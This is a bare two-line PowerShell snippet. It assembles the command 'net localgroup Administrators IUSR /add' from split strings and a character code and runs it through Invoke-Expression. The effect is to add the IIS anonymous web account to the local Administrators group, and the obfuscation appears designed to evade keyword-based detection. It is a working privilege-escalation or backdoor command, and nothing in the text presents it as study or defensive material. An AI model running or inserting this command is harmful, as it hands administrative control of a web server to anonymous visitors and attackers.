$p = 'lo','cal','group' -join ''
iex ("net $p Administrators IUSR /" + [char]97 + 'dd')
